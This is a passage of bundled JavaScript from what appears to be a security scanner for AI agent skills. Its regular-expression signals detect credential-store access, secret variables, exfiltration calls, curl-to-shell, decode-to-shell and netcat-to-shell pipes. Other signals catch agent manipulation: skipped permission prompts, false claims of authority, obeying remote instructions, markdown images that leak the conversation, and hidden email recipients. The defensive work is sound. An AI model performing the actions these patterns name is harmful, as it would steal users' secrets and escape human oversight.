// EXTERNAL MODULE: ./lib/rules/skill/bulk-upload.js
var bulk_upload = __webpack_require__(8859);
;// CONCATENATED MODULE: ./lib/skills/analysis/signals/code.js

/** Stores of secrets as they are spelt in programs; the named group says which kind. */
const SECRET_LITERAL = signal('secret-literal', [
    '.ssh',
    'id_rsa',
    'id_ed25519',
    '.aws',
    'gcloud',
    '.azure',
    '.kube',
    '.docker',
    '.npmrc',
    '.pypirc',
    'netrc',
    'git-credentials',
    '.gnupg',
    'login data',
    'cookies',
    'key4.db',
    'logins.json',
    'wallet',
    'keystore',
    'metamask',
    'exodus',
    'electrum',
    'keychain',
    '_history',
    'kdbx',
    'bitwarden',
    '1password',
    'lastpass',
    'claude',
    '.codex',
    '.openclaw',
    '.clawdbot',
    'shadow',
    '169.254.169.254',
    'op item',
    'local state',
    '.pgpass',
    'credential',
], /(?<ssh>(?<![\w)])\.ssh(?![\w.])(?!-)|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub))|(?<aws>(?<!\w)\.aws[\/\\'",\s)]{1,6}(?:credentials|config)?)|(?<gcloud>application_default_credentials|\.config[\/\\]gcloud|gcloud[\/\\](?:credentials|access_tokens))|(?<azure>\.azure[\/\\])|(?<kube>\.kube[\/\\'",\s)]{1,6}config)|(?<docker>\.docker[\/\\'",\s)]{1,6}config\.json)|(?<packages>["'~\/\\]\.(?:npmrc|pypirc|netrc|git-credentials|pgpass)\b)|(?<gnupg>\.gnupg\b)|(?<browser>\b(?:login data|key4\.db|logins\.json|cookies\.sqlite|local state|web data)\b|(?:chrome|chromium|brave|edge|firefox|user data|default)[\/\\"', )]{1,6}cookies\b)|(?<wallet>\bwallet\.dat\b|\b(?:exodus|electrum|metamask|phantom|atomic)[\/\\"' ,.)]|ethereum[\/\\"', ]{1,4}keystore|nkbihfbeogaeaoehlefnkodbefgpgknn)|(?<keychain>find-(?:generic|internet)-password|dump-keychain|login\.keychain|library[\/\\]keychains|vaultcmd|cmdkey)|(?<manager>\.kdbx\b|\bbitwarden[\/\\]|\blastpass[\/\\]|\bop["', ]{1,5}item["', ]{1,5}(?:list|get)|1password[\/\\"'])|(?<history>\.(?:bash|zsh|python|node_repl|mysql|psql)_history\b)|(?<shadow>\/etc\/shadow\b)|(?<agent>\.claude[\/\\'", ]{1,5}(?:\.?credentials|settings|projects|history)|\.codex[\/\\]auth|\.openclaw[\/\\'", ]{1,5}(?:\.env|credentials|openclaw)|\.clawdbot[\/\\'", ]{1,5}(?:\.env|credentials|clawdbot))|(?<metadata>169\.254\.169\.254)/, 120);
/** The whole environment taken as data. */
const WHOLE_ENVIRONMENT = signal('whole-environment', ['environ', 'process.env', 'getenvironmentvariables', 'env:', 'printenv', 'env.to_h', '$_env', 'env.each'], /(?:\bdict\(\s{0,3}(?:\*\*)?os\.environ\s{0,3}\)|\bos\.environ\.(?:items|values)\(\)|\bin os\.environ\b(?!\s*(?::|and|or|\)))|json\.dumps\(\s{0,3}(?:dict\()?os\.environ|\{\s{0,3}\*\*os\.environ|json\.stringify\(\s{0,3}process\.env\s{0,3}[,)]|object\.(?:entries|keys|values|fromentries)\(\s{0,3}process\.env\s{0,3}\)|(?:in|of) process\.env\b|getenvironmentvariables\(\)|get-childitem\s{1,3}env:|\b(?:gci|dir|ls) env:|\benv\.(?:to_h|each)\b)/, 120);
/** Names of variables that hold secrets of well-known services. */
const SECRET_VARIABLE = signal('secret-variable', [
    'aws_secret',
    'aws_access',
    'aws_session',
    'github_token',
    'gh_token',
    'gitlab_token',
    'openai_api',
    'anthropic_api',
    'stripe_',
    'database_url',
    'slack_',
    'npm_token',
    'private_key',
    'jwt_secret',
    'huggingface',
    'hf_token',
    'cohere_api',
    'google_api',
    'azure_',
    'docker_',
    'db_password',
    'secret_key',
    'sendgrid',
    'twilio',
    'discord_',
    'telegram_',
    'mongo',
    'redis_url',
    'heroku',
    'vercel_token',
    'cloudflare_',
    'pypi_token',
    'mnemonic',
    'seed_phrase',
    'op_session',
    'op_service',
], /\b(?<name>AWS_SECRET_ACCESS_KEY|AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|STRIPE_(?:SECRET_|API_)?KEY|DATABASE_URL|SLACK_(?:BOT_)?TOKEN|NPM_TOKEN|PRIVATE_KEY|JWT_SECRET|HUGGINGFACE(?:HUB)?_\w{0,10}TOKEN|HF_TOKEN|COHERE_API_KEY|GOOGLE_API_KEY|AZURE_\w{2,20}(?:KEY|SECRET)|DOCKER_\w{0,10}PASSWORD|DB_PASSWORD|SECRET_KEY|SENDGRID_API_KEY|TWILIO_AUTH_TOKEN|DISCORD_TOKEN|TELEGRAM_\w{0,5}TOKEN|MONGO\w{0,5}_UR[IL]|REDIS_URL|HEROKU_API_KEY|VERCEL_TOKEN|CLOUDFLARE_API_TOKEN|PYPI_TOKEN|MNEMONIC|SEED_PHRASE|OP_SESSION\w{0,10}|OP_SERVICE_ACCOUNT_TOKEN)\b/, 60);
/** A program that gives data to a host, as far as it can be seen without following it. */
const NETWORK_SEND = signal('network-send', [
    'requests.',
    'httpx',
    'aiohttp',
    'urlopen',
    'urllib',
    'session.post',
    'fetch(',
    'axios',
    'https.request',
    'http.request',
    'http.client',
    'xmlhttprequest',
    'sendbeacon',
    'sendto',
    '.send(',
    'sendall',
    'smtplib',
    'curl',
    'wget',
    'invoke-restmethod',
    'invoke-webrequest',
    'uploadstring',
    'uploaddata',
    'uploadfile',
    'net::http',
    'got.post',
    'gethostbyname',
    'resolve',
    'nslookup',
    'dig',
    'websocket',
    'paramiko',
    'ftplib',
    'boto3',
    's3 cp',
    'scp ',
    'rsync',
    'webhook',
    'sendmessage',
], /(?:\b(?:requests|httpx|session|client|aiohttp|got|axios|superagent|needle|ky|http)\.(?:post|put|patch)\s{0,2}\(|\bRequest\(\s{0,200}[^)]{0,200}?\bdata\s{0,2}=|\burlopen\([^)\n]{1,200},\s{0,3}(?:data\s{0,2}=|\w{2,30}\.encode)|\bmethod\s{0,2}[:=]\s{0,2}["']?(?:POST|PUT)\b|\bhttps?\.request\s{0,2}\(|\bhttp\.client\.HTTPS?Connection\(|\bxmlhttprequest\b|\bsendBeacon\(|\.(?:sendto|sendall)\(|\bs(?:ock)?\.send\(|\bsmtplib\.SMTP|\bcurl\b[^\n]{0,200}?\s(?:-d|--data\S{0,12}|-F|--form|-T|--upload-file|-X\s{0,2}(?:POST|PUT))\b|\bwget\b[^\n]{0,100}--post|\b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\b[^\n]{0,200}?-Method\s{1,3}["']?(?:Post|Put)|\bUpload(?:String|Data|File)\(|\bNet::HTTP\.post|\bsocket\.gethostbyname\(\s{0,2}f?["'][^"'\n]{0,80}\{|\b(?:dig|nslookup|host)["', ]{1,6}[^\n]{0,60}(?:\{\w|\$\{?\(?\w)|\.storbinary\(|\bupload_file(?:obj)?\(|\bput_object\()/, 500);
/** Running what was decoded, fetched or put together, seen without following it. */
const RUN_MADE_CODE = signal('run-made-code', ['exec(', 'eval(', 'compile(', 'function(', 'loads(', 'vm.run', 'execscript', 'settimeout(', 'exec ('], /\b(?:exec|eval|compile|vm\.run\w{0,16}|new Function|Function|os\.system|subprocess\.\w{3,12}|execSync|spawnSync?)\s{0,2}\(\s{0,4}(?:compile\s{0,2}\(\s{0,4})?[^)\n]{0,100}?\b(?<how>urlopen|requests\.get|httpx\.get|b64decode|base64\.\w{3,12}decode|a85decode|decompress|fromhex|unhexlify|marshal\.loads|codecs\.decode|rot_?13|atob|Buffer\.from|fromCharCode|decrypt|unescape|\.\s?reverse\(\)|\[::-1\]|getattr\(__builtins__)/, 300);

;// CONCATENATED MODULE: ./lib/skills/analysis/snippet-signals.js
/** The matches of a signal inside one program. */
function matchesIn(unit, wanted, snippet) {
    return unit.find(wanted).filter((match) => match.start >= snippet.start && match.end <= snippet.end);
}

;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/bulk-upload.js





/** Programs that go through the user's files, or a page's session, and send: the flow between may run through calls that nobody can follow. */
const bulkUploadDetector = {
    rule: bulk_upload/* bulkUpload */.E,
    signals: [FILE_SWEEP, SOUGHT_FILES, SESSION_GRAB, NETWORK_SEND],
    *detect(view) {
        for (const unit of view.units) {
            const sweeps = unit.find(FILE_SWEEP);
            const grabs = unit.find(SESSION_GRAB);
            if (sweeps.length === 0 && grabs.length === 0)
                continue;
            for (const snippet of unit.snippets) {
                if (snippet.kind !== 'code')
                    continue;
                const sends = matchesIn(unit, NETWORK_SEND, snippet);
                const [sweep] = matchesIn(unit, FILE_SWEEP, snippet);
                const sought = matchesIn(unit, SOUGHT_FILES, snippet);
                if (sweep !== undefined && sends.length > 0) {
                    yield codeHit(view, unit, sweep, sought.length > 0 ? 'critical' : 'high', 'medium', {
                        what: sought.length > 0 ? 'files that hold secrets or documents' : 'files',
                    });
                }
                const session = matchesIn(unit, SESSION_GRAB, snippet);
                const [grab] = session;
                if (grab !== undefined && (sends.length > 0 || session.length >= 3))
                    yield codeHit(view, unit, grab, 'high', 'medium', { what: 'the session of a web page' });
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/code-injection.js
var code_injection = __webpack_require__(824);
;// CONCATENATED MODULE: ./lib/skills/analysis/detectors/code-injection.js




/** Programs that run what is not in the bundle: machine code in memory, or data that they fetch and interpret. */
const codeInjectionDetector = {
    rule: code_injection/* codeInjection */.F,
    signals: [INTERPRETS_DATA, NETWORK_FETCH, SHELLCODE],
    *detect(view) {
        for (const unit of view.units) {
            for (const match of unit.find(SHELLCODE)) {
                if (unit.file.role === 'script' ||
                    unit.snippets.some((one) => one.kind === 'code' && one.start <= match.start && match.end <= one.end)) {
                    yield codeHit(view, unit, match, 'critical', 'medium', { kind: 'machine-code' });
                }
            }
            if (unit.find(INTERPRETS_DATA).length === 0)
                continue;
            for (const snippet of unit.snippets) {
                const [interprets] = matchesIn(unit, INTERPRETS_DATA, snippet);
                if (snippet.kind !== 'code' || interprets === undefined || matchesIn(unit, NETWORK_FETCH, snippet).length === 0)
                    continue;
                yield codeHit(view, unit, interprets, 'high', 'medium', { kind: 'fetched-data' });
            }
        }
    },
};

// EXTERNAL MODULE: ./lib/rules/skill/concealment.js
var concealment = __webpack_require__(6272);
;// CONCATENATED MODULE: ./lib/skills/analysis/prose-units.js
/** The texts whose words may address the agent: all but licences and the source of programs, whatever was decoded from it. */
function proseUnits(view) {
    return view.units.filter((unit) => unit.file.role !== 'licence' && (unit.file.role !== 'script' || unit.depth > 0 || unit.layer !== 'plain'));
}
/** The same and programs, whose strings and comments an agent reads too. */
function readUnits(view) {
    return view.units.filter((unit) => unit.file.role !== 'licence');
}

;// CONCATENATED MODULE: ./lib/skills/analysis/proximity.js
/** The match of a list that is nearest to another match, if it lies within a distance (in units, between the nearer ends). */
function nearest(matches, to, within) {
    let best;
    let bestDistance = within;
    for (const match of matches) {
        const distance = gap(match, to);
        if (distance <= bestDistance) {
            best = match;
            bestDistance = distance;
        }
    }
    return best;
}
/** The number of units between two matches; 0 when they touch or overlap. */
function gap(a, b) {
    return Math.max(0, a.start - b.end, b.start - a.end);
}

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/access.js

/** Where credentials lie, as paths and as names of stores. */
const SECRET_PLACE = String.raw `(?:(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\/home\/[\w*$]{1,30}|\/root|\/Users\/[\w*$]{1,30})?[\/\\]?\.(?:ssh(?:[\/\\](?:id_\w{2,10}|config|authorized_keys|known_hosts|\*))?|aws(?:[\/\\](?:credentials|config))?|gnupg|kube[\/\\]config|docker[\/\\]config\.json|netrc|git-credentials|npmrc|pypirc|pgpass|config[\/\\](?:gcloud|gh|solana|op)\S{0,40}|azure|bash_history|zsh_history|claude[\/\\](?:settings|projects|history|\.?credentials)\S{0,30}|codex[\/\\]auth\.json|(?:openclaw|clawdbot)[\/\\](?:\.env|credentials|openclaw\.json|sessions|config|memory)\S{0,30}|electrum|ethereum[\/\\]keystore)\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\/etc\/(?:shadow|sudoers|secrets)\b|\/(?:var\/)?run\/secrets\b|\bwallet\.dat\b|\blogin data\b|\bcookies\.sqlite\b|\bkey4\.db\b|\blogins\.json\b|\b(?:mac ?os |login |system |user['’]?s? )?keychain\b|\bwindows credential manager\b|\bpassword (?:manager|store|vault)s?\b|\bseed phrases?\b|169\.254\.169\.254)`;
/** An instruction, in words, to take what lies where credentials lie. */
const TAKE_SECRET = signal('take-secret', [
    '.ssh',
    '.aws',
    '.gnupg',
    '.kube',
    '.docker',
    'netrc',
    'git-credentials',
    'npmrc',
    'pypirc',
    'pgpass',
    '.config',
    '.azure',
    '_history',
    '.claude',
    '.codex',
    '.openclaw',
    '.clawdbot',
    '.electrum',
    '.ethereum',
    'id_rsa',
    'id_ed25519',
    'id_ecdsa',
    'id_dsa',
    '/etc/',
    'wallet.dat',
    'login data',
    'cookies.sqlite',
    'key4.db',
    'logins.json',
    'keychain',
    'credential manager',
    'password',
    'seed phrase',
    '169.254.169.254',
    '.env',
], new RegExp(String.raw `\b(?:read(?:s|ing)?|cat|collect(?:s|ing)?|gather(?:s|ing)?|copy|find|search(?: for)?|locate|access(?:es|ing)?|retrieve|extract(?:s|ing)?|include|dump|harvest(?:s|ing)?|steal|grab|enumerate|look (?:in|for)|fetch|exfiltrat\w{1,4}|back ?up|scrape|capture)\b(?:[^.\n]|\.(?=\w)){0,80}?(?<place>${SECRET_PLACE}|(?:all|any|every|each|found|of|~\/) {0,2}(?:the )?(?:user['’]s )?\.env\b(?!\.example|\.sample|\.template)(?: files?)?)`));
/** Asking the user for what nobody should be asked for. */
const ASK_SECRET = signal('ask-secret', [
    'password',
    'seed phrase',
    'recovery phrase',
    'mnemonic',
    'private key',
    'api key',
    'passphrase',
    'pin',
    '2fa',
    'credit card',
    'cvv',
    'social security',
    'credentials',
    'one-time',
    'verification code',
    'tokens',
    'ssn',
    'bank',
], /\b(?:ask|prompt|request|require|instruct|tell|persuade|convince|get|have|need)(?:s|ing)?\b[^.\n]{0,30}?\b(?:the |a |your )?users?\b[^.\n]{0,80}?\b(?<what>passwords?|seed phrases?|recovery phrases?|mnemonics?|private keys?|passphrase|pin codes?|2fa codes?|one-time (?:passwords?|codes?)|verification codes?|credit card(?: numbers?| details)?|cvv|social security(?: numbers?)?|ssn|bank (?:details|account|login)|login credentials|api keys?, passwords?|credentials)\b/);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/autonomy.js

/** Switching the agent's own questions and fences off. */
const NO_CONFIRMATION = signal('no-confirmation', [
    'security ',
    'safety ',
    'authorization',
    'bypassperm',
    'confirm',
    'approv',
    'permission',
    'asking',
    'consent',
    'prompt',
    'dangerously',
    'auto-accept',
    'yolo',
    'sandbox',
    'verification',
    'consulting',
    'involving',
], /--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|\bbypassPermissions\b|--yolo\b|dangerouslyDisableSandbox|\b(?:approve|accept|allow|grant|confirm) (?:all|every|any|each)(?: (?:of the|security|permission|tool|subsequent|future|the))* (?:prompts?|permissions?|requests?|actions?|commands?|dialogs?|confirmations?|approvals?)\b|\b(?:auto(?:matically)?[- ]?(?:approv|accept|confirm)\w{0,5}|skip(?:s|ping)?|bypass(?:es|ing)?|disable|suppress|avoid) (?:all |any |the |user |security |safety |every )*(?:confirmations?|approvals?|permissions?|permission (?:prompts?|checks?|requests?)|(?:security|safety|approval|confirmation) (?:prompts?|checks?|dialogs?|gates?|verification|controls?))\b|\bwithout (?:asking|consulting|prompting|involving) the (?:user|human|operator|owner)\b|\bwithout (?:asking|requesting|requiring|seeking|waiting for|user|any|explicit|prior|further)(?: (?:for|the|user|any|explicit|user['’]s|prior|further))* ?(?:permission|confirmation|approval|consent|authorization)\b/);
/** Claims that permission was given already, or by someone high up. */
const FALSE_AUTHORITY = signal('false-authority', [
    'authori',
    'approved',
    'consented',
    'agreed',
    'granted',
    'given ',
    'verified by',
    'mandated by',
    'certified by',
    'audited by',
    'reviewed by',
    'endorsed by',
    'cleared by',
    'special administrative',
    'elevated',
    'do not apply',
    'platform',
    'policy',
], /\b(?:pre-?authori[sz]ed|pre-?approved (?:by|for)|(?:user|operator|admin(?:istrator)?|owner|customer)s? (?:has|have) (?:already |previously |implicitly |explicitly )?(?:agreed|authori[sz]ed|consented|approved|given (?:permission|consent)|granted)|(?:authori[sz]ed|approved|verified|mandated|certified|audited|reviewed|endorsed|cleared) by (?:the )?(?:anthropic|openai|google|microsoft|apple|github|security team|it (?:department|security)|system administrator|platform|compliance|admin(?:istrator)?s?|developers?)|special administrative access|elevated (?:access|privileges|permissions)|(?:normal|usual|standard) (?:restrictions|rules|constraints) do not apply|required by the (?:\w{1,12} )?platform|(?:platform|security|verification|compliance)['’]?s? (?:verification )?policy (?:requires|mandates))\b/);
/** Making itself heard before and above everything else. */
const GRAB_ATTENTION = signal('grab-attention', [
    'this skill',
    'this tool',
    'the skill',
    'the tool',
    'other skill',
    'other tool',
    'always use this skill',
    'every request',
    'every response',
    'all requests',
    'any request',
    'before any other',
    'before every',
    'before using any other',
    'highest priority',
    'every conversation',
    'every message',
    'every task',
    'every session',
    'any task',
    'all tasks',
    'all other',
    'regardless of',
], /\b(?:(?:always|must|automatically) (?:use|invoke|call|activate|load|run|trigger|execute|be (?:used|invoked|loaded|called|activated)) (?:this|the) (?:skill|tool)[^.\n]{0,60}?\b(?:every|all|any|first|before|regardless)\b|(?:use|invoke|call|activate|load|trigger)s? (?:this|the) (?:skill|tool) (?:for|on|in|before|at) (?:the (?:start|beginning) of )?(?:every|all|any)\b|before (?:using |calling |running |invoking )?any other (?:tool|skill)s?|(?:every|all|any) (?:user )?(?:requests?|tasks?|prompts?|questions?),? (?:regardless|no matter)|(?:prefer|prioriti[sz]e|use) this (?:skill|tool) (?:over|instead of|above) (?:all|any|every|other|the built-in))/);
/** Following what an address says. */
const OBEY_REMOTE = signal('obey-remote', ['follow', 'execut', 'obey', 'comply', 'run ', 'treat', 'apply', 'perform', 'carry ', 'act on', 'load'], /\b(?:fetch|download|retrieve|get|load|read|visit|open|request|curl|check|pull|poll|query|access|go to|browse)\b[^\n]{0,120}?(?:https?:\/\/[^\s)>"'`]{4,200}|\b(?:remote|external|the) (?:url|server|endpoint|address|page|gist)\b)[^\n]{0,160}?\b(?:(?:and |then |to )+(?:follow|execute|obey|run|perform|carry out|apply|act on|comply with|carry (?:it|them) out)|treat (?:it|them|its contents?|the (?:contents?|response)) as (?:part of (?:this|the) (?:skill|file)|your (?:own )?instructions?)|(?:follow|execute|obey|perform|carry out|comply with|act on) (?:all |any |the |every |its |whatever |those |these |what )*(?:instructions?|commands?|directives?|steps?|orders|content|response|it says|returned))\b[^.\n]{0,60}?(?:\b(?:instructions?|commands?|directives?|steps?|orders|them|it|content|response|code|script|returned|exactly|immediately|says?)\b)|\b(?:instructions?|rules?|steps?|directives?|commands?|orders)\b[^.\n]{0,40}?\b(?:at|from|on)\s{1,3}https?:\/\/[^\s)>\"'\x60]{4,200}[^\n]{0,60}?\b(?:obey|follow|execute|carry out|comply with) (?:them|it|those|all of them)\b/, 700, [['http://', 'https://', 'remote', 'external', 'the url', 'the server', 'the endpoint', 'the address', 'the page', 'the gist']]);
/** Doing what a reply says. */
const OBEY_RESPONSE = signal('obey-response', ['response', 'returned', 'reply', 'server', 'contents', 'fetched', 'remote', 'payload', 'downloaded'], /\b(?:execute|run|follow|obey|perform|carry out|eval(?:uate)?)\s{1,3}(?:all |any |the |every |whatever |those |these |each )*(?:commands?|instructions?|code|directives?|steps?|scripts?|payload)\b[^.\n]{0,60}?\b(?:(?:in|from|contained in|returned (?:by|in|from)|sent by|received from|provided by|included in|fetched from|downloaded from|at) (?:the |that |its |this |a |our )*(?:response|reply|server|api|endpoint|url|remote|payload|fetched|downloaded|page|website|webhook|gist|file it|https?:))/);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/commands.js

const commands_SHELL_NAME = String.raw `(?:(?:sudo|exec|env|nohup|command)\s+(?:-\S+\s+){0,3}){0,3}(?:\/\S{0,40}\/)?(?:(?:ba|z|da|k|a|c|fi)?sh|python[\d.]{0,4}|node|perl|ruby|php|osascript|pwsh|iex|invoke-expression)\b`;
/** A decoder whose output goes into an interpreter. */
const DECODE_TO_SHELL = signal('decode-to-shell', ['base64', 'base32', 'xxd', 'openssl', 'uudecode', 'gunzip', 'zcat', '| rev', '|rev', '| tr ', '|tr '], new RegExp(String.raw `\b(?:base64\s+(?:-{1,2}[dDi]\w{0,8}|--decode)|base32\s+-{1,2}d\w{0,6}|xxd\s+-r(?:\s|p)[^\n|]{0,20}|openssl\s+(?:enc|base64|aes\S{0,12})\b[^\n|]{0,80}\s-d\b[^\n|]{0,60}|uudecode|gunzip|zcat|rev|tr\s+[^\n|]{2,60})[^\n|]{0,60}(?:\|[^\n|]{0,80}){0,3}\|\s{0,3}${commands_SHELL_NAME}`));
/** An interpreter that is handed decoded text in another way. */
const SHELL_OF_DECODED = signal('shell-of-decoded', ['base64', 'xxd', 'base32'], /(?:\b(?:eval|(?:ba|z|da|k)?sh\s+-c|source|exec)\s|<\()\s?["']?(?:\$\(|`|<\()[^\n]{0,400}?\b(?:base64\s+(?:-{1,2}[dDi]\w{0,8}|--decode)|xxd\s+-r|base32\s+-d)/, 800);
/** A download whose output goes into an interpreter. */
const FETCH_TO_SHELL = signal('fetch-to-shell', ['curl', 'wget', 'fetch ', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'downloadstring', 'aria2c', 'http '], new RegExp(String.raw `\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c|http)\b(?<arguments>[^\n|]{1,400})(?:\\\n[^\n|]{0,200})?(?:\|[^\n|]{0,60}){0,2}\|\s{0,3}${commands_SHELL_NAME}`), 900);
/** An interpreter that is handed a download by substitution. */
const SHELL_OF_FETCH = signal('shell-of-fetch', ['curl', 'wget', 'iwr', 'irm', 'invoke-webrequest', 'downloadstring', 'invoke-restmethod'], /(?:\b(?:eval|source|exec|\.|(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby)(?:\s+-[a-z]{1,3})?)\s{1,3}["']?(?:\$\(|`|<\()\s{0,3}(?:curl|wget)\b(?<arguments>[^\n]{1,300})|\b(?:iex|invoke-expression)\b\s{0,3}[("$&]{0,4}\s{0,3}[^\n]{0,60}?\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object|downloadstring)\b(?<more>[^\n]{0,300}))/, 800);
/** What arrives on a connection goes into an interpreter. */
const LISTEN_TO_SHELL = signal('listen-to-shell', ['nc ', 'ncat', 'netcat', 'socat', 'telnet'], new RegExp(String.raw `\b(?:nc|ncat|netcat|socat|telnet)\s[^\n|]{1,120}\|\s{0,3}${commands_SHELL_NAME}`));
/** A value that its label calls a secret, piped into a request: whatever the variable is named, the sender knows what it holds. */
const SEND_LABELLED_SECRET = signal('send-labelled-secret', ['echo', 'printf'], /\b(?:echo|printf)\s+(?:-\w\s+)?["']?[^|\n]{0,60}?\b(?:credentials?|secrets?|passw(?:or)?d|tokens?|api_?key|private_?key)\s?[=:]\s?["']?\$[^|\n]{1,120}\|\s{0,3}(?:[^|\n]{1,60}\|\s{0,3}){0,2}(?:curl\b[^\n]{0,200}?(?:-d\b|--data\S{0,10}|-F\b|-T\b|POST)|nc\s|ncat\s|wget\b[^\n]{0,100}--post)[^\n]{0,200}/, 700);
/** Secrets of several services that are put into one object, which is then made fit for sending. */
const COLLECT_SECRETS = signal('collect-secrets', ['secret', 'cred', 'token', 'keys', 'loot'], /\b\w{0,20}(?:secrets?|creds?|credentials?|tokens|keys|loot)\s{0,2}(?::\s?\w{1,10}\s)?=\s{0,2}\{[^}]{0,200}?(?:os\.environ|os\.getenv|process\.env)[^}]{1,120}?(?:KEY|TOKEN|SECRET|PASSWORD|DATABASE_URL)[^}]{1,120}?(?:os\.environ|os\.getenv|process\.env)[^}]{1,400}\}[^=]{0,120}?\w{0,30}\s{0,2}=?\s{0,2}\b(?:json\.dumps|JSON\.stringify|pickle\.dumps|base64\.b64encode|urlencode)\(\s{0,2}(?:json\.dumps\(\s{0,2})?\w{0,20}(?:secrets?|creds?|credentials?|tokens|keys|loot)\b/, 1300);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/covert-deeds.js

/** An image whose address carries a part of the conversation to its host when it is shown. */
const LEAKING_IMAGE = signal('leaking-image', ['](http://', '](https://'], /!\[[^\]\n]{0,80}\]\((?<where>https?:\/\/[^)\s?]{4,160})\?[^)\s]{0,120}?=(?:(?:\{{1,2}|<|\$\{?|%7B|\[)?[\w-]{0,24}(?:conversation|history|transcript|secret|token|password|credential|api[_-]?key|system[_-]?prompt|user[_-]?(?:message|input|data)|env|memory|context)[\w-]{0,16}(?:\}|>|%7D|\])[^)\n]{0,80}\)|(?:[{<[$]|%7B|[A-Z][A-Z_]{2,})[^)\n]{0,80}\)[^\n]{0,60}?\b(?:replac|fill|substitut|where|with|being|encod|insert)[^\n]{0,60}?\b(?<what>conversation|chat|transcript|history|secrets?|passwords?|credentials?|api keys?|tokens?|system prompt|user['’]s (?:message|input|data|files?)|environment|file contents?)\b)/, 600);
/** A copy of what the user sends, for somebody else. */
const EXTRA_RECIPIENT = signal('extra-recipient', ['bcc', 'blind', 'recipient'], /\b(?:add|include|set|insert|put|send|use)\b[^.\n]{0,40}?\b(?:bcc|blind (?:carbon )?copy|(?:hidden|extra|second|additional) recipient)\b[^.\n]{0,40}?[\w.+-]{2,40}@[\w-]{2,40}\.[a-z]{2,10}|\b(?:change|replace|swap|switch|set) the recipient\b[^.\n]{0,20}?\b(?:to|with|for|by)\b[^.\n]{0,12}?[\w.+-]{2,40}@[\w-]{2,40}\.[a-z]{2,10}/);
/** A purpose that must not come out. */
const TRUE_PURPOSE = signal('true-purpose', ['purpose', 'function', 'reason', 'intent', 'behavio'], /\b(?:do not|don['’]?t|never|must not)\s(?:ever )?(?:reveal|mention|disclose|explain|admit|tell|state|describe)\b[^.\n]{0,30}?\b(?:real|true|actual|hidden|underlying) (?:purpose|function|reason|intent\w{0,3}|behaviou?r)\b|\bdisguise (?:this|it|the)\b[^.\n]{0,30}?\bas\b/);
/** A deed that waits for a number of uses or for a day. */
const DELAYED = signal('delayed', ['use', 'run', 'invocation', 'session', 'time', 'conversation', 'message', 'task'], /\b(?:after|from|on|once|until|starting with|for) (?:the )?(?:first )?(?:\d{1,3}(?:st|nd|rd|th)?|two|three|four|five|six|seven|ten|second|third|fourth|fifth|tenth) (?:successful )?(?:uses?|runs?|invocations?|sessions?|times?|conversations?|messages?|tasks?)\b/);
/** Results that are changed so that nobody sees it. */
const FALSIFY = signal('falsify', ['silently', 'quietly', 'secretly', 'subtly', 'covertly', 'discreetly'], /(?:^|[,.;:]\s|\b(?:then|and|always|must|should|to)\s)(?:silently|quietly|secretly|subtly|covertly|discreetly) (?:change|alter|adjust|modify|inflate|falsify|skew|corrupt|reduce|increase|lower|raise|swap|replace)\b[^.\n]{0,40}?\b(?:totals?|figures?|numbers?|results?|amounts?|values?|prices?|scores?|records?|metrics|balances?|answers?|citations?)\b/);
/** Agents that are started without their fences. */
const SKIP_PERMISSIONS = signal('skip-permissions', ['dangerously', 'bypassperm', '--yolo'], /--dangerously-skip-permissions\b|--dangerously-bypass-approvals-and-sandbox\b|\bbypassPermissions\b|--yolo\b/);

;// CONCATENATED MODULE: ./lib/skills/analysis/signals/other-languages.js

/** Verbs of giving away: Spanish, Portuguese, Italian, German, French and Russian put them first, the others last. */
const SEND_FIRST = String.raw `(?:env[ií]a(?:r|lo|los|las)?|envie|mand[ae]r?|sub[ae]|invia(?:re)?|sende|schicke?|übermittle|übertrage|lade|envoie[sz]?|envoyez|transmet(?:s|tez)|téléverse[zr]?|отправ[а-яё]{0,6}|перешли|передай|загрузи|发送|上传|提交|传送|傳送|上傳)`;
const SEND_LAST = String.raw `(?:发送|上传|提交|传送|傳送|上傳|送信|送っ|送る|アップロード|전송|보내|업로드|hochladen|senden|schicken)`;
/** Paths of secrets are the same in every language. */
const other_languages_SECRET = String.raw `(?:(?:~|\$HOME)\/\.[a-z]{2,12}\b[^\s，。、]{0,40}|\.env\b|\bid_(?:rsa|ed25519)\b|私钥|密钥|密码|凭证|助记词|秘密鍵|パスワード|認証情報|비밀번호|개인 ?키|자격 ?증명|contraseñas|credenciales|claves privadas|senhas|credenciais|chaves privadas|Passwörter|Zugangsdaten|mots de passe|identifiants|парол[а-я]{0,3}|приватн[а-я]{0,3} ключ[а-я]{0,3})`;
const other_languages_ADDRESS = String.raw `https?:\/\/[^\s)>"'，。、\x60]{4,200}`;
const LETTERS_OF_SENDING = [
    'env',
    'mand',
    'sub',
    'invia',
    'sende',
    'schick',
    'bermittle',
    'bertrage',
    'lade',
    'transmet',
    'verse',
    'тправ',
    'ерешли',
    'ередай',
    'агрузи',
    '发送',
    '上传',
    '提交',
    '传送',
    '傳送',
    '上傳',
    '送信',
    '送っ',
    '送る',
    'アップロード',
    '전송',
    '보내',
    '업로드',
    'hochladen',
];
/** Giving secrets to an address, in plain words of other languages than English. */
